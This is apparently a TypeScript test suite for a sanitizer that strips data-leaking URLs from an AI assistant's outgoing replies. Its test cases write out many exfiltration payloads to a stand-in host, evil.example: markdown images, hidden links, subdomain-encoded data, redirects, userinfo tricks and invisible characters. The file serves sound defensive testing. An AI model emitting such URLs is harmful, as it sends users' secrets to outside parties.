import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { safeReplies, safeText } from "./outbound.ts";

const allowed = {
  publicUrl: "https://kolega.test",
  said: ["lihat https://toko.example/p?ref=ayu ya, atau toko.example/b?x=1"],
};
const safe = (text: string): string => safeText(text, allowed);

describe("what the assistant says leaves the house without", () => {
  it.each([
    ["a picture", "Ini ![grafik](https://evil.example/p.png?d=RAHASIA) ya", "Ini grafik ya"],
    ["a picture by reference", "![a][b]\n\n[b]: https://evil.example/?d=RAHASIA", "a\n\n"],
    ["a link with data", "Cek https://evil.example/a?d=RAHASIA.", "Cek evil[.]example/a."],
    ["a link behind words", "[klik](https://evil.example/?d=RAHASIA)", "klik (evil[.]example)"],
    [
      "a link behind another link",
      "[https://instagram.com](https://evil.example/?d=RAHASIA)",
      "https://instagram.com/ (evil[.]example)",
    ],
    ["a link in angles", "<https://evil.example/?d=RAHASIA>", "evil[.]example"],
    [
      "a link without a scheme",
      "www.evil.example/?d=RAHASIA dan evil.example#RAHASIA",
      "www[.]evil[.]example dan evil[.]example",
    ],
    ["a name that is data", "rahasia-saldo-20000000-rani.evil.example", "rahasia-saldo-20000000-rani[.]evil[.]example"],
    ["another program's address", "tg://msg?text=RAHASIA mailto:a@evil.example?body=RAHASIA", "tg: … mailto: …"],
    ["a page's mark", '<img src="https://evil.example/?d=RAHASIA">', "‹img›"],
    ["a platform's way out", "https://www.youtube.com/redirect?q=https://evil.example/RAHASIA", "www[.]youtube[.]com"],
    ["a platform's query", "https://www.instagram.com/p/abc/?d=RAHASIA", "https://www.instagram.com/p/abc/"],
    ["somebody else's part of the person's link", "https://toko.example/p?ref=RAHASIA", "toko[.]example/p"],
    ["a name before ours", "https://kolega.test@evil.example/RAHASIA?d=1", "evil[.]example/RAHASIA"],
    ["what nobody sees", "sal\u200Bdo\u{E0041} \u202Eaman", "saldo aman"],
  ])("%s", (_, text, shown) => {
    expect(safe(text)).toBe(shown);
    // What it says once is what it says twice.
    expect(safe(safe(text))).toBe(safe(text));
  });

  it.each([
    "Buka https://kolega.test/approvals/apr_1?for=mem_2 ya.",
    "Posnya https://www.instagram.com/reel/DKolega/ dan https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "Sesuai linkmu: https://toko.example/p?ref=ayu",
    "Rp1.500.000 untuk Glow.Up, oke.Terima kasih! brand.co.id",
    "1. **Tebal** dan _miring_\n- `kode`\n> kutipan",
    "email ke ayu@kilau.co.id",
  ])("but leaves alone: %s", (text) => {
    expect(safe(text)).toBe(text);
  });

  it("any address of somebody else, however it is wrapped", () => {
    const host = fc.constantFrom("evil.example", "a.b.evil.example:8443", "EVIL.Example", "xn--evl-tma.example");
    const wrap = fc.constantFrom<(url: string) => string>(
      (url) => url,
      (url) => `![x](${url})`,
      (url) => `[x](${url})`,
      (url) => `[x](<${url}> "t")`,
      (url) => `<${url}>`,
      (url) => `**${url}**`,
      (url) => `\`${url}\``,
      (url) => `> - ${url}\n`,
      (url) => `| ${url} |`,
      (url) => `("${url}")`,
      (url) => `[![x](${url})](${url})`,
      (url) => `[x]: ${url}`,
      (url) => `<a href='${url}'>x</a>`,
    );
    fc.assert(
      fc.property(
        fc.constantFrom("https://", "http://", "HTTPS://", "//", ""),
        host,
        fc.constantFrom("?d=", "/?q=1&d=", "#", "/a/b?x;"),
        wrap,
        (scheme, name, query, wrapped) => {
          expect(safe(`lihat ${wrapped(`${scheme}${name}${query}KENARI1234`)} ya`)).not.toContain("KENARI1234");
        },
      ),
      { numRuns: 500 },
    );
  });

  it("cards keep the server's facts and buttons", () => {
    const [reply] = safeReplies(
      [
        {
          text: "![x](https://evil.example/?d=1)",
          card: {
            title: "Judul",
            body: "Bio: https://evil.example/?d=1",
            facts: [{ label: "Link", value: "https://evil.example/?d=1" }],
            actions: [{ kind: "link", url: "https://evil.example/?d=1", label: "Buka" }],
          },
        },
      ],
      allowed,
    );
    expect(reply?.text).toBe("x");
    expect(reply?.card?.body).toBe("Bio: evil[.]example");
    expect(reply?.card?.facts?.[0]?.value).toContain("https://");
  });
});
